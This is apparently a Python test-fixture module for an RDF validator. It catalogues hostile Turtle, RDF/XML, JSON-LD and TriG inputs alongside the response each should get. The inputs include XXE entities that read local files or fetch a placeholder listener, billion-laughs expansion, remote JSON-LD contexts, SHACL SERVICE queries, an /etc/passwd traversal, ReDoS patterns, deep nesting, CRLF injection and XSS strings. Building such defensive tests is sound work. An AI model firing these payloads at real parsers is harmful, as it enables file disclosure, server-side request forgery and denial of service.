"""RDF, forms and envelopes that mean harm: what each is, in which syntax, and what is answered.

`{listener}` stands for an address nobody may ask, `{file}` for a file that nobody may read.
"""

from dataclasses import dataclass

from .sent import BASE

#: Nothing of it is checked: an error of the sender.
REFUSED = "refused"
#: It does no harm: a report.
REPORT = "report"
EITHER = "either"

XML = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
    ' xmlns:dct="http://purl.org/dc/terms/" xmlns:e="http://example.org/">{}</rdf:RDF>'
)
NODE = '<rdf:Description rdf:about="http://example.org/a">{}</rdf:Description>'
PREFIXES = (
    "@prefix dcterms: <http://purl.org/dc/terms/> . @prefix xsd: "
    "<http://www.w3.org/2001/XMLSchema#> . @prefix owl: <http://www.w3.org/2002/07/owl#> . "
    "@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> . @prefix sh: "
    f"<http://www.w3.org/ns/shacl#> . @prefix iclod: <{BASE}ontology#> .\n"
)
THING = f"<{BASE}id/practice/bergen-x>"
LOL = "".join(
    f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else "lol"}'
    f'{("&l" + str(n - 1) + ";") * 9 if n else ""}">'
    for n in range(10)
)


@dataclass(frozen=True)
class Bad:
    """Something bad.

    Attributes:
        suffix: Its syntax.
        data: Text, bytes, or the parts of an archive.
        answer: What is to come of it.
    """

    suffix: str
    data: object
    answer: str = REFUSED


def turtle(text, answer=REPORT):
    return Bad("ttl", PREFIXES + text, answer)


def xml(inner, answer=REPORT, head=""):
    return Bad("rdf", head + XML.format(inner), answer)


def node(text):
    return xml(NODE.format(text))


DOCTYPES = {
    "entities that grow": xml(
        NODE.format("<dct:title>&l9;</dct:title>"), REFUSED, f"<!DOCTYPE rdf [{LOL}]>"
    ),
    "an entity that is a file": xml(
        NODE.format("<dct:title>&x;</dct:title>"),
        REFUSED,
        '<!DOCTYPE rdf [<!ENTITY x SYSTEM "file://{file}">]>',
    ),
    "an entity elsewhere": xml(
        NODE.format("<dct:title>&x;</dct:title>"),
        REFUSED,
        '<!DOCTYPE rdf [<!ENTITY x SYSTEM "{listener}">]>',
    ),
    "a parameter entity": xml("", REFUSED, '<!DOCTYPE r [<!ENTITY % x SYSTEM "{listener}"> %x;]>'),
    "an external subset": xml("", REFUSED, '<!DOCTYPE rdf SYSTEM "{listener}">'),
    "a doctype in lower case": xml("", REFUSED, '<!doctype rdf [<!ENTITY x "y">]>'),
    "a doctype behind much": xml(
        "", REFUSED, f"<?xml version='1.0'?><!--{'-x' * 9000}--><!DOCTYPE r [<!ENTITY x 'y'>]>"
    ),
    "a doctype in UTF-16": Bad(
        "rdf",
        ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r SYSTEM "{listener}"><r/>').encode(
            "utf-16"
        ),
    ),
    "a stylesheet elsewhere": xml(
        "", REPORT, '<?xml-stylesheet href="{listener}" type="text/xsl"?>'
    ),
    "an include elsewhere": xml(
        NODE.format(
            '<dct:title rdf:parseType="Literal"><i:include xmlns:i='
            '"http://www.w3.org/2001/XInclude" href="file://{file}"/></dct:title>'
        ),
        EITHER,
    ),
}


def _context(text, answer=REFUSED):
    return Bad("jsonld", f'{{"@context": {text}, "@id": "http://example.org/a", "t": "x"}}', answer)


CONTEXTS = {
    "a context elsewhere": _context('"{listener}"'),
    "a context that is a file": _context('"file://{file}"'),
    "a context that is a path": _context('"{file}"'),
    "a relative context": _context('"../../../../../../etc/passwd"'),
    "contexts in an array": _context('[{"t": "http://example.org/t"}, ["{listener}"]]'),
    "an import in a context": _context('{"@version": 1.1, "@import": "{listener}"}'),
    "a context of a term": _context(
        '{"t": {"@id": "http://example.org/t", "@context": "{listener}"}}', EITHER
    ),
    "a context of a class": Bad(
        "jsonld",
        '{"@context": {"T": {"@id": "http://example.org/T", "@context": "{listener}"}},'
        ' "@type": "T", "http://example.org/p": "x"}',
        EITHER,
    ),
    "a context inside": Bad(
        "jsonld", '{"http://example.org/p": {"@context": "{listener}", "x": "y"}}', EITHER
    ),
    "a context as data": _context('"data:application/json,{}"'),
    "a context of our own": _context(f'"{BASE}context.jsonld"', EITHER),
}
FETCHES = {
    "imports": turtle("<{listener}> a owl:Ontology ; owl:imports <{listener}>, <file://{file}> ."),
    "shapes graphs": turtle(
        f"{THING} sh:shapesGraph <{{listener}}> ; rdf:type <file://{{file}}> ."
    ),
    "a query in the data": turtle(
        "[] a sh:NodeShape ; sh:targetNode <http://example.org/a> ; sh:sparql [ sh:select "
        '"SELECT $this ?value FROM <file://{file}> { ?value ?p ?o SERVICE <{listener}> {} }" ] .'
    ),
    "rules and scripts in the data": turtle(
        "[] a sh:NodeShape ; sh:targetSubjectsOf rdf:type ; sh:rule [ a sh:SPARQLRule ; "
        'sh:construct "CONSTRUCT { $this a $this } WHERE { SERVICE <{listener}> {} }" ] ; '
        'sh:js [ sh:jsLibrary [ sh:jsLibraryURL "{listener}" ] ; sh:jsFunctionName "f" ] .'
    ),
    "a pattern in the data": turtle(
        "[] a sh:NodeShape ; sh:targetSubjectsOf dcterms:title ; sh:property [ sh:path "
        f'dcterms:title ; sh:pattern "^(a+)+$" ] . {THING} dcterms:title "{"a" * 40}!" .'
    ),
    "names of elsewhere": turtle(
        f"{THING} a iclod:Practice ; dcterms:subject <{{listener}}> ; dcterms:source "
        "<file://{file}> ; dcterms:spatial <{listener}> ."
    ),
    "a base elsewhere": turtle("@base <{listener}> . <a> dcterms:source <b> ."),
    "graphs named elsewhere": Bad("trig", "<{listener}> { <{listener}> a <{listener}> }", REPORT),
}
PATHS = {
    f"the body is {name} as {suffix}": Bad(suffix, text)
    for name, text in {
        "a path": "{file}",
        "a file's address": "file://{file}",
        "an address": "{listener}",
        "a path in a bracket": "<file://{file}>",
    }.items()
    for suffix in ("ttl", "nt", "jsonld", "rdf", "trig", "nq")
}


def _deep(before, after, depth, start="", inner="1", end="."):
    return start + before * depth + inner + after * depth + end


NESTED = {
    f"{name} {depth} deep": Bad(suffix, _deep(before, after, depth, start, inner, end))
    for depth in (1_000, 20_000)
    for name, suffix, before, after, start, inner, end in (
        ("blank nodes", "ttl", "[ <e:p> ", " ]", "<e:a> <e:p> ", "1", " ."),
        ("lists", "ttl", "( ", " )", "<e:a> <e:p> ", "1", " ."),
        ("triple terms", "ttl", "<<( <e:s> <e:p> ", " )>>", "<e:a> <e:p> ", "1", " ."),
        ("reified triples", "ttl", "<< <e:s> <e:p> ", " >>", "<e:a> <e:p> ", "1", " ."),
        ("annotations", "ttl", " {| <e:p> 1", " |}", "<e:a> <e:p> 1", "", " ."),
        ("triple terms", "nt", "<<( <e:s> <e:p> ", " )>>", "<e:a> <e:p> ", "<e:o>", " .\n"),
        ("triple terms", "nq", "<<( <e:s> <e:p> ", " )>>", "<e:a> <e:p> ", "<e:o>", " .\n"),
        ("graphs", "trig", "<e:g> { ", " }", "", "", ""),
        ("objects", "jsonld", '{"e:p": ', "}", "", "1", ""),
        ("arrays", "jsonld", "[", "]", "", "", ""),
        ("lists", "jsonld", '{"@list": [', "]}", '{"e:p": ', "", "}"),
        ("graphs", "jsonld", '{"@graph": ', "}", "", "{}", ""),
        ("contexts", "jsonld", '{"@context": {}, "e:p": ', "}", "", "1", ""),
        ("elements", "rdf", "<x:a xmlns:x='e:'>", "</x:a>", "", "", ""),
        (
            "markup",
            "rdf",
            "<b>",
            "</b>",
            XML.partition("{}")[0]
            + NODE.partition("{}")[0]
            + '<dct:title rdf:parseType="Literal">',
            "",
            "</dct:title>" + NODE.partition("{}")[2] + XML.partition("{}")[2],
        ),
    )
} | {
    "brackets left open": Bad("ttl", "<e:a> <e:p> " + "[ <e:p> " * 50_000),
    "objects left open": Bad("jsonld", '{"e:p": ' * 50_000),
    "elements left open": Bad("rdf", "<a>" * 50_000),
    "a string left open": Bad("ttl", '<e:a> <e:p> """' + '""\\' * 100_000),
    "a string of JSON left open": Bad("jsonld", '{"e:p": "' + "\\\\" * 100_000),
    "a comment left open": Bad("rdf", XML.format("<!-- " + "-- " * 50_000)),
    "an iri left open": Bad("ttl", "<e:a> <e:p> <" + "a" * 200_000),
}
CHAINS = {
    "a chain of blank nodes": turtle(
        "\n".join(f"_:a{n} dcterms:isPartOf _:a{n + 1} ." for n in range(5_000))
    ),
    "a chain that ends in a practice": turtle(
        f"{THING} a iclod:Practice ; dcterms:temporal _:a0 . "
        + "\n".join(f"_:a{n} dcterms:temporal _:a{n + 1} ." for n in range(5_000))
    ),
    "a ring of classes": turtle(
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> . "
        + "\n".join(f"<e:{n}> rdfs:subClassOf <e:{(n + 1) % 3000}> ." for n in range(3_000))
        + " iclod:Practice rdfs:subClassOf <e:0> . <e:x> a <e:5> ."
    ),
    "a long list": turtle(f"<e:a> <e:p> ( {' '.join('1' for _ in range(8_000))} ) ."),
    "blank nodes each linked to each": turtle(
        " ".join(f"_:a{n} <e:p> _:a{m} ." for n in range(14) for m in range(14))
    ),
    "markup in a literal": turtle(
        f'{THING} a iclod:Practice ; dcterms:title "{"<b>" * 20_000}{"</b>" * 20_000}"^^rdf:HTML .'
    ),
    "markup of XML in a literal": turtle(
        f'{THING} dcterms:title "{"<b>" * 20_000}{"</b>" * 20_000}"^^rdf:XMLLiteral .'
    ),
    "JSON in a literal": turtle(f'{THING} dcterms:title "{"[" * 50_000}"^^rdf:JSON .'),
    "markup left open in a title": turtle(
        f'{THING} a iclod:Practice ; dcterms:title "{"<a " * 60_000}"@en , "{"<!--" * 60_000}"@fr .'
    ),
    "a text that patterns are slow on": turtle(
        f'{THING} a iclod:Practice ; dcterms:title "{"< " * 100_000}<b"@en ; '
        f'dcterms:identifier "{"a-" * 100_000}!" .'
    ),
    "a city's name without end": turtle(
        f'{THING} a iclod:Practice ; dcterms:spatial "{"Bergen " * 100_000}" .'
    ),
    "a thousand misspelt topics": turtle(
        f"{THING} a iclod:Practice ; dcterms:subject "
        + " , ".join(f'"topic {n} education and housing"' for n in range(1_000))
        + " ."
    ),
    "hundreds of practices with faults": turtle(
        "\n".join(
            f'<{BASE}id/practice/x-{n}> a iclod:Practice ; dcterms:title "{n}" ; '
            f'dcterms:spatial "Bergn" ; dcterms:identifier "y" .'
            for n in range(300)
        )
    ),
    "a thousand titles in a language": turtle(
        f"{THING} a iclod:Practice ; dcterms:title "
        + " , ".join(f'"title {n}"@en' for n in range(1_000))
        + " ."
    ),
}
NUMBERS = {
    f"{name} as {kind}": turtle(f'{THING} a iclod:Practice ; dcterms:title "{text}"^^{kind} .')
    for kind in ("xsd:integer", "xsd:decimal", "xsd:double", "xsd:int", "xsd:gYear", "xsd:date")
    for name, text in {"very many digits": "9" * 50_000, "a giant exponent": "1e999999999"}.items()
} | {
    "a bare giant integer": turtle(f"{THING} a iclod:Practice ; dcterms:title {'9' * 50_000} ."),
    "a giant number of JSON": Bad(
        "jsonld", f'{{"@id": "e:a", "e:p": [{"9" * 50_000}, 1e999999, -1E-999999]}}', EITHER
    ),
    "a giant duration": turtle(f'{THING} dcterms:title "P{"9" * 5_000}Y"^^xsd:duration .'),
    "a giant coordinate": turtle(
        f"<{BASE}id/city/x> a iclod:City ; <http://www.w3.org/2003/01/geo/wgs84_pos#lat> "
        f"1e400 , {'9' * 9_000}.5 , 0.{'0' * 9_000}1 ."
    ),
    "a giant year in a period": turtle(
        f"<{BASE}id/practice/x#period-1> a dcterms:PeriodOfTime ; "
        "<http://www.w3.org/ns/dcat#startDate> "
        f'"{"9" * 9_000}"^^xsd:gYear ; <http://www.w3.org/ns/dcat#endDate> "1e9"^^xsd:gYear .'
    ),
}
IRIS = {
    "a line end in an IRI": turtle("<http://example.org/a\r\nX: y> dcterms:title 'x' .", REFUSED),
    "an escaped line end in an IRI": turtle(
        "<http://example.org/a\\u000D\\u000AX> dcterms:title 'x' .", REFUSED
    ),
    "an escaped bracket in an IRI": turtle("<http://e.org/\\u003E> dcterms:title 'x' .", REFUSED),
    "an escaped quote in an IRI": turtle("<http://e.org/\\u0022> dcterms:title 'x' .", REFUSED),
    "a line end in an IRI of JSON": Bad(
        "jsonld", '{"@id": "http://example.org/a\\r\\nX: y", "http://example.org/p": "x"}', EITHER
    ),
    "a line end in an IRI of XML": xml(
        '<rdf:Description rdf:about="http://example.org/a&#13;&#10;X"><e:p>x</e:p></rdf:Description>',
        REFUSED,
    ),
    "a script as an IRI": turtle(
        f"{THING} a iclod:Practice ; dcterms:subject <javascript:alert(1)> ; "
        "dcterms:source <javascript:alert(2)> , <data:text/html,x> , <vbscript:x> ."
    ),
    "a script as a subject": turtle("<javascript:alert(1)> a iclod:Practice ."),
    "markup in a title": turtle(
        f"{THING} a iclod:Practice ; dcterms:title '<script>alert(1)</script>' , "
        "'\"><img src=x onerror=alert(1)>' ."
    ),
    "steering characters in a title": turtle(
        f"{THING} a iclod:Practice ; dcterms:title '\\u001B[2J\\u0000\\u202E\\u0085' ."
    ),
    "an IRI without end": turtle(f"<http://example.org/{'a' * 1_000_000}> a iclod:Practice ."),
    "half a pair": turtle("<http://example.org/a> dcterms:title '\\uD800' .", REFUSED),
    "half a pair in JSON": Bad("jsonld", '{"@id": "e:a", "e:p": "\\ud800"}', EITHER),
    "no UTF-8": Bad("ttl", b"<http://e.org/a> <http://e.org/b> '\xff\xfe\xc0\xaf' ."),
    "nothing but zeros": Bad("ttl", b"\x00" * 10_000),
    "many prefixes": turtle(
        "".join(f"@prefix p{n}: <http://e.org/{n}> ." for n in range(20_000)), EITHER
    ),
    "more statements than are checked": Bad(
        "nt", "".join(f"<e:s{n}> <e:p> <e:o> .\n" for n in range(60_000))
    ),
}
FAMILIES = (DOCTYPES, CONTEXTS, FETCHES, PATHS, NESTED, CHAINS, NUMBERS, IRIS)
TEXTS = {name: bad for family in FAMILIES for name, bad in family.items()}
